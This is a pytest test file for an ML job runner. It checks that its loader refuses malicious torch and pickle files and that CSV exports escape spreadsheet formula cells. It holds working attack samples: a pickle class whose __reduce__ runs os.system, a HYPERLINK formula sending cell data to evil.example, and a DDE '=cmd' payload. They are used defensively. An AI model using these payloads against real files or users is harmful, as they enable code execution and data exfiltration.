"""Files the product loads may come from someone else: a pickle whose unpickling runs a shell command
(real ones: their ``__reduce__`` calls ``os.system``, which would create a marker file) is refused in one
line naming the file, and nothing of it runs: through the loader itself, a job's checkpoint, an ``init``
file, and end to end through ``launch``."""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import pytest
import torch

from workers.checkpoint import load_checkpoint, save_checkpoint
from workers.init_weights import InitWeightsError, read_state_dict
from workers.safe_load import UnreadableFileError, UnsafeFileError, load_torch


class _Evil:
    """Unpickling this runs ``touch MARKER``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def write_evil(path: Path, marker: Path, fmt: str) -> Path:
    """A state-dict-looking file whose unpickling would create ``marker``, in one of the formats torch reads."""
    obj = {"state_dict": {"w": torch.zeros(2)}, "epoch": 1, "model": {}, "payload": _Evil(marker)}
    if fmt == "zip":
        torch.save(obj, path)
    elif fmt == "legacy":
        torch.save(obj, path, _use_new_zipfile_serialization=False)
    else:  # a bare pickle (no tensor: pickling one names torch's own unpickling helper), protocol 2 or 5
        obj["state_dict"] = {"w": [0.0, 0.0]}
        path.write_bytes(pickle.dumps(obj, protocol=int(fmt[-1])))
    return path


@pytest.mark.parametrize("fmt", ["zip", "legacy", "pickle2", "pickle5"])
def test_a_pickle_that_would_run_code_is_refused_in_one_line_and_runs_nothing(tmp_path: Path, fmt: str) -> None:
    marker = tmp_path / "MARKER"
    path = write_evil(tmp_path / "evil.pt", marker, fmt)
    pickle.loads(pickle.dumps(_Evil(marker)))  # the payload is real: plain unpickling runs it
    assert marker.exists()
    marker.unlink()
    with pytest.raises(UnsafeFileError) as refused:
        load_torch(path)
    message = str(refused.value)
    assert "\n" not in message and message.startswith(f"{path}: refused to load"), message
    if fmt != "pickle5":  # protocol 5 names the function with STACK_GLOBAL: torch reports the opcode
        assert "GLOBAL posix.system" in message, message
    assert not marker.exists()


def test_a_job_checkpoint_replaced_by_a_malicious_pickle_fails_the_attempt_and_stays_put(tmp_path: Path) -> None:
    marker = tmp_path / "MARKER"
    save_checkpoint(tmp_path, {"epoch": 1, "model": {"w": torch.ones(1)}})  # the job's own, then replaced
    ckpt = write_evil(tmp_path / "checkpoint.pt", marker, "zip")
    with pytest.raises(UnsafeFileError, match=rf"^{ckpt}: refused to load"):
        load_checkpoint(tmp_path)
    assert ckpt.is_file() and not list(tmp_path.glob("*.torn-*"))  # not mistaken for a torn file
    assert not marker.exists()


def test_an_init_file_that_would_run_code_or_holds_objects_is_refused(tmp_path: Path) -> None:
    import argparse

    marker = tmp_path / "MARKER"
    evil = write_evil(tmp_path / "evil.pth", marker, "zip")
    with pytest.raises(InitWeightsError) as refused:
        read_state_dict(evil)
    assert str(refused.value).startswith(f"init: {evil}: refused to load") and "\n" not in str(refused.value)
    timm_style = tmp_path / "timm.pth"  # a training script's checkpoint with its argparse namespace
    torch.save({"state_dict": {"w": torch.zeros(1)}, "args": argparse.Namespace(lr=0.1)}, timm_style)
    with pytest.raises(InitWeightsError, match=r"GLOBAL argparse\.Namespace"):
        read_state_dict(timm_style)
    plain = tmp_path / "plain.pth"
    torch.save({"state_dict": {"module.w": torch.ones(3)}}, plain)
    assert torch.equal(read_state_dict(plain)["w"], torch.ones(3))  # weights still load
    torn = tmp_path / "torn.pth"
    torn.write_bytes(plain.read_bytes()[:60])
    with pytest.raises(InitWeightsError, match=rf"^init: {torn}: unreadable"):
        read_state_dict(torn)
    assert not marker.exists()


def test_unreadable_files_are_told_apart_from_unsafe_ones(tmp_path: Path) -> None:
    good = tmp_path / "good.pt"
    torch.save({"epoch": 1, "w": torch.ones(2)}, good)
    for name, data in {"empty.pt": b"", "zeros.pt": bytes(100), "cut.pt": good.read_bytes()[:200],
                       "text.pt": b"not a checkpoint\n"}.items():
        (tmp_path / name).write_bytes(data)
        with pytest.raises(UnreadableFileError, match=rf"^{tmp_path / name}: unreadable"):
            load_torch(tmp_path / name)


@pytest.mark.slow
def test_launch_with_a_malicious_init_file_fails_the_job_in_one_line_and_runs_nothing(
        tmp_path: Path, digits: Path) -> None:
    from db import JobState, Store

    from .test_e2e_local import cli

    marker = tmp_path / "MARKER"
    evil = write_evil(tmp_path / "evil.pt", marker, "zip")
    grid = tmp_path / "grid.toml"
    grid.write_text(f"""
name = "evil"
seeds = [0]
failure_budget = 0
[dataset]
root = "{digits}"
[train]
backbone = "test_resnet"
epochs = 1
batch_size = 64
image_size = 32
[resources]
cpus_per_task = 1
loader_workers = 1
[subsets.full]
strategy = "full"
[methods.supervised]
lr = 0.1
init = {{ file = "{evil}" }}
""")
    db = f"sqlite:///{tmp_path / 'db.sqlite'}"
    proc = cli("launch", str(grid), "--no-progress", db=db, home=tmp_path, check=False)
    with Store(db) as store:
        (job,) = store.jobs("evil")
        assert (job.state, job.failure_count) == (JobState.FAILED, 1), proc.stdout + proc.stderr
        (attempt,) = store.attempts(job.job_hash)
    reason = attempt.exit_reason or ""
    assert reason.count("\n") == 0 and f"init: {evil}: refused to load" in reason, reason
    assert not marker.exists()


def test_csv_exports_escape_formula_cells_but_keep_negative_numbers(tmp_path: Path) -> None:
    import csv
    import json

    from db import NewJob, Store
    from db.export import export_grid

    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    spec = {"note": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "tag": "@SUM(A1:A9)",
            "a": "+1+1", "b": "-2+3", "c": "\tx", "d": "\rx", "plain": "a=b", "lr": -0.5}
    with Store(url) as store:
        gid = store.upsert_grid("g", "{}", "sh", "g.toml", 2)
        store.add_jobs(gid, [NewJob("j0", json.dumps(spec), "supervised", "ck", 0, str(tmp_path / "j0"), "full",
                                    "=cmd|' /C calc'!A0")])
        attempt = store.claim("j0", backend="local", backend_id=None, host="n1", pid=1)
        store.complete("j0", attempt, {"loss_delta": -0.25, "acc": 0.5})
        export_grid(store, "g", tmp_path / "out")
    with open(tmp_path / "out" / "jobs.csv", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["config_name"] == "'=cmd|' /C calc'!A0"
    assert row["spec.note"] == "'" + spec["note"] and row["spec.tag"] == "'@SUM(A1:A9)"
    assert (row["spec.a"], row["spec.b"], row["spec.c"], row["spec.d"]) == ("'+1+1", "'-2+3", "'\tx", "'\rx")
    assert row["spec.plain"] == "a=b"  # a formula character inside a cell is harmless
    assert (row["spec.lr"], row["loss_delta"], row["acc"]) == ("-0.5", "-0.25", "0.5")  # numbers stay numbers
    with open(tmp_path / "out" / "metrics.csv", newline="") as fh:
        assert {r["name"]: r["value"] for r in csv.DictReader(fh)} == {"loss_delta": "-0.25", "acc": "0.5"}
    records = json.loads((tmp_path / "out" / "jobs.json").read_text())
    assert records[0]["config_name"] == "=cmd|' /C calc'!A0"  # JSON keeps values as they are
